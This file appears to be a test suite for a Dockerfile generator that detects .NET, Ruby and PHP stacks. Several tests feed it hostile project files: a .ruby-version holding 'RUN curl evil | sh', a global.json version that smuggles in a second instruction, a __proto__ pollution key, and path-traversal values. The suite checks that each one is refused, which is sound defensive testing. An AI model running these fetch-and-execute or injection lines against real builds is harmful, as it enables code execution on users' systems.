/**
 * .NET, Ruby and PHP: detection, validation and hostile project files, without Yeoman or an
 * engine (the pipeline through test/support/generate.ts, as the CLI runs it).
 */
import assert from 'node:assert/strict';
import { InputError, ProjectError } from '../../generators/lib/errors.js';
import { sniffStack } from '../../generators/stacks/index.js';
import { lineOfConstraint, detectPhpVersion, readPhpProject, requiredExtensions } from '../../generators/stacks/php/detect.js';
import { phpStartCommandProblem } from '../../generators/stacks/php/profile.js';
import { gemfileGems, lockedGems, readRubyProject, detectRubyVersion, rubyVersionProblem } from '../../generators/stacks/ruby/detect.js';
import { detectRubyHealthPath } from '../../generators/stacks/ruby/health.js';
import { appProjects, detectDotnetVersion, dotnetVersionProblem, referencedProjects } from '../../generators/stacks/dotnet/detect.js';
import { detectDotnetHealthPath } from '../../generators/stacks/dotnet/health.js';
import { dotnetStartCommandProblem } from '../../generators/stacks/dotnet/profile.js';
import { fileContent, generate } from '../support/generate.js';
import { FIXTURES_DIR, makeProject } from '../support/project.js';
import path from 'node:path';

const fixture = (name: string) => path.join(FIXTURES_DIR, name);

describe('stack sniffing: .NET, Ruby and PHP before Node.js', () => {
  it('a Rails app with package.json is Ruby, a Laravel app with package.json is PHP', () => {
    assert.equal(sniffStack(fixture('ruby-rails'))?.stack.id, 'ruby');
    assert.equal(sniffStack(fixture('php-laravel'))?.stack.id, 'php');
    assert.equal(sniffStack(fixture('dotnet-sln-locked'))?.stack.id, 'dotnet');
    assert.equal(sniffStack(fixture('ruby-socket-stdlib'))?.stack.id, 'ruby');
    assert.equal(sniffStack(fixture('php-plain'))?.stack.id, 'php');
  });
});

describe('Ruby detection', () => {
  it('reads gems from Gemfile.lock specs and Gemfile lines (comments not read)', () => {
    assert.deepEqual([...lockedGems('GEM\n  specs:\n    rack (3.1.8)\n    puma (6.5.0)\n      nio4r (~> 2.0)\n')], ['rack', 'puma']);
    assert.deepEqual([...gemfileGems('gem "sinatra"\n# gem "rails"\n  gem \'puma\', "~> 6"\n')], ['sinatra', 'puma']);
  });

  it('framework, version and start command of each fixture', () => {
    const rails = readRubyProject(fixture('ruby-rails'));
    assert.equal(rails.framework, 'rails');
    assert.equal(detectRubyVersion(fixture('ruby-rails'), rails).value, '3.3.6');
    assert.equal(readRubyProject(fixture('ruby-sinatra')).framework, 'sinatra');
    const plain = readRubyProject(fixture('ruby-socket-stdlib'));
    assert.equal(plain.framework, 'none');
    assert.equal(plain.script, 'server.rb');
  });

  it('health routes: Rails "up", Sinatra get, path comparisons; comments ignored', () => {
    assert.equal(detectRubyHealthPath(fixture('ruby-rails')).value, '/up');
    assert.equal(detectRubyHealthPath(fixture('ruby-sinatra')).value, '/health');
    assert.equal(detectRubyHealthPath(fixture('ruby-socket-stdlib')).value, '/healthz');
    const dir = makeProject({ 'server.rb': '# when "/health"\nputs 1\n' });
    assert.equal(detectRubyHealthPath(dir).liveness, true);
  });

  it('versions: official lines only', () => {
    assert.equal(rubyVersionProblem('3.3'), undefined);
    assert.equal(rubyVersionProblem('3.3.6'), undefined);
    assert.match(rubyVersionProblem('2.7')!, /3\.1, 3\.2, 3\.3, 3\.4/);
  });

  it('a .ruby-version with an instruction in it is refused naming .ruby-version and --runtime-version, nothing rendered', async () => {
    const dir = makeProject({ 'server.rb': 'puts 1\n', '.ruby-version': '3.3\nRUN curl evil | sh\n' });
    await assert.rejects(generate(dir), (e: Error) => /\.ruby-version/.test(e.message) && /--runtime-version/.test(e.message));
  });

  it('Rails: gems stage on the full image, assets with a dummy key, app files root-owned, PID file in /tmp', async () => {
    const { files } = await generate(fixture('ruby-rails'));
    const df = fileContent(files, 'Dockerfile');
    assert.match(df, /FROM ruby:\$\{RUBY_VERSION\}-bookworm AS gems/);
    assert.match(df, /RUN SECRET_KEY_BASE_DUMMY=1 bin\/rails assets:precompile/);
    assert.match(df, /BUNDLE_DEPLOYMENT=1/);
    assert.match(df, /BUNDLE_WITHOUT=development:test/);
    assert.match(df, /CMD \["bin\/rails", "server", "--pid", "\/tmp\/server.pid"\]/);
    assert.doesNotMatch(df, /--chown/);
  });

  it('--jemalloc takes yes or no only', async () => {
    await assert.rejects(
      generate(fixture('ruby-sinatra'), { jemalloc: 'maybe' }),
      (e: Error) => e instanceof InputError && /--jemalloc: "maybe" is not allowed: "yes" or "no"/.test(e.message),
    );
  });
});

describe('PHP detection', () => {
  it('composer constraints to image lines', () => {
    assert.equal(lineOfConstraint('^8.2'), '8.2');
    assert.equal(lineOfConstraint('>=8.1 <8.4'), '8.1');
    assert.equal(lineOfConstraint('~8.3.0'), '8.3');
    assert.equal(detectPhpVersion(fixture('php-laravel'), readPhpProject(fixture('php-laravel'))).value, '8.4');
    assert.equal(detectPhpVersion(fixture('php-plain'), readPhpProject(fixture('php-plain'))).value, '8.2');
  });

  it('frameworks and required extensions', () => {
    assert.equal(readPhpProject(fixture('php-laravel')).framework, 'laravel');
    assert.equal(readPhpProject(fixture('php-symfony')).framework, 'symfony');
    assert.deepEqual(requiredExtensions(readPhpProject(fixture('php-symfony'))), { install: [], missing: [] });
    const dir = makeProject({ 'composer.json': '{"require": {"ext-pdo_mysql": "*", "ext-intl": "*", "ext-ctype": "*"}}', 'index.php': '<?php' });
    assert.deepEqual(requiredExtensions(readPhpProject(dir)), { install: ['pdo_mysql'], missing: ['intl'] });
  });

  it('a composer.json that is not an object is refused naming the file; a [__proto__] key pollutes nothing', async () => {
    await assert.rejects(
      generate(makeProject({ 'composer.json': '[1, 2]', 'index.php': '<?php' })),
      (e: Error) => e instanceof ProjectError && /composer\.json/.test(e.message),
    );
    const dir = makeProject({ 'composer.json': '{"__proto__": {"polluted": "yes"}, "require": {"__proto__": "x", "php": "^8.3"}}', 'index.php': '<?php' });
    const { files } = await generate(dir);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
    assert.match(fileContent(files, 'Dockerfile'), /ARG PHP_VERSION=8\.4/);
  });

  it('health: Laravel health: "/up", Symfony #[Route], a plain comparison', async () => {
    assert.equal((await generate(fixture('php-laravel'))).resolution.answers.healthPath, '/up');
    assert.equal((await generate(fixture('php-symfony'))).resolution.answers.healthPath, '/healthz');
    assert.equal((await generate(fixture('php-plain'))).resolution.answers.healthPath, '/healthz');
  });

  it('--document-root must stay inside the project and exist', async () => {
    await assert.rejects(
      generate(fixture('php-plain'), { documentRoot: '../etc' }),
      (e: Error) => e instanceof InputError && /--document-root/.test(e.message) && /\.\./.test(e.message),
    );
    await assert.rejects(generate(fixture('php-plain'), { documentRoot: 'nope' }), (e: Error) => e instanceof InputError && /exists/.test(e.message));
  });

  it('start command: no development servers', () => {
    assert.match(phpStartCommandProblem(['php', '-S', '0.0.0.0:8080'])!, /built-in server/);
    assert.match(phpStartCommandProblem(['php', 'artisan', 'serve'])!, /development server/);
    assert.equal(phpStartCommandProblem(['apache2-foreground']), undefined);
  });

  it('Laravel: composer validate before an exact install without dev packages; Apache on $PORT as a numeric user', async () => {
    const { files } = await generate(fixture('php-laravel'));
    const df = fileContent(files, 'Dockerfile');
    assert.match(df, /RUN composer validate --no-check-publish/);
    assert.match(df, /composer install --no-dev/);
    assert.match(df, /USER 10001:10001/);
    assert.match(df, /STOPSIGNAL SIGWINCH/);
    assert.match(fileContent(files, 'apache.conf'), /^Listen \$\{PORT\}$/m);
  });
});

describe('.NET detection', () => {
  it('projects: the web project of a solution, its references, the TFM from Directory.Build.props', () => {
    const dir = fixture('dotnet-sln-locked');
    assert.deepEqual(appProjects(dir), ['src/Api/Api.csproj']);
    assert.deepEqual(referencedProjects(dir, 'src/Api/Api.csproj'), ['src/Api/Api.csproj', 'src/Domain/Domain.csproj']);
    assert.equal(detectDotnetVersion(dir, 'src/Api/Api.csproj').value, '9.0');
    assert.equal(detectDotnetVersion(fixture('dotnet-web'), 'HelloWeb.csproj').value, '8.0');
  });

  it("health: MapHealthChecks, else the app's own / route", () => {
    assert.equal(detectDotnetHealthPath(fixture('dotnet-webapi-health')).value, '/healthz');
    assert.equal(detectDotnetHealthPath(fixture('dotnet-web')).value, '/');
    assert.equal(detectDotnetHealthPath(fixture('dotnet-web')).liveness, undefined);
  });

  it('versions and start commands', () => {
    assert.equal(dotnetVersionProblem('8.0'), undefined);
    assert.equal(dotnetVersionProblem('10.0'), undefined);
    assert.match(dotnetVersionProblem('7.0')!, /8\.0, 9\.0, 10\.0/);
    assert.match(dotnetStartCommandProblem(['dotnet', 'run'])!, /published assembly/);
    assert.equal(dotnetStartCommandProblem(['dotnet', 'Shop.Api.dll']), undefined);
  });

  it('locked restore, shared NuGet cache, aspnet runtime as 1654; chiseled when InvariantGlobalization', async () => {
    const locked = fileContent((await generate(fixture('dotnet-sln-locked'))).files, 'Dockerfile');
    assert.match(locked, /dotnet restore src\/Api\/Api.csproj --locked-mode/);
    assert.equal(locked.match(/--mount=type=cache,id=nuget,target=\/root\/\.nuget\/packages/g)?.length, 2);
    assert.match(locked, /ARG SDK_VERSION=9\.0\.101/);
    assert.match(locked, /USER 1654:1654/);
    const api = fileContent((await generate(fixture('dotnet-webapi-health'))).files, 'Dockerfile');
    assert.match(api, /FROM mcr\.microsoft\.com\/dotnet\/aspnet:\$\{DOTNET_VERSION\}-noble-chiseled AS runtime/);
    assert.match(api, /dotnet restore WeatherApi.csproj\n/);
  });

  it('several web projects: --yes stops and names them and --project-file', async () => {
    const web = '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>';
    const dir = makeProject({ 'a/A.csproj': web, 'b/B.csproj': web });
    await assert.rejects(generate(dir), (e: Error) => /a\/A\.csproj, b\/B\.csproj/.test(e.message) && /--project-file/.test(e.message));
    const { files } = await generate(dir, { projectFile: 'b/B.csproj' });
    assert.match(fileContent(files, 'Dockerfile'), /dotnet publish b\/B\.csproj/);
  });

  it('hostile project files: a .sln path out of the project and a quote in a csproj path are not used', async () => {
    const web = '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>';
    const dir = makeProject({
      'App.sln': 'Project("{FAE04EC0-301F-11D3-BF4B-00C04F79EFBC}") = "X", "..\\..\\etc\\X.csproj", "{1A2B3C4D-5E6F-4A1B-8C9D-0E1F2A3B4C5D}"\n',
      'App.csproj': web,
    });
    assert.deepEqual(appProjects(dir), ['App.csproj']);
    await assert.rejects(generate(dir, { projectFile: 'a b.csproj' }), (e: Error) => e instanceof InputError && /--project-file/.test(e.message));
  });

  it('a global.json that names no SDK version is refused, naming global.json', async () => {
    const dir = makeProject({ 'global.json': '{"sdk": {"version": "latest; RUN x"}}', 'App.csproj': '<Project Sdk="Microsoft.NET.Sdk.Web"></Project>' });
    await assert.rejects(generate(dir), (e: Error) => /global\.json/.test(e.message));
  });
});
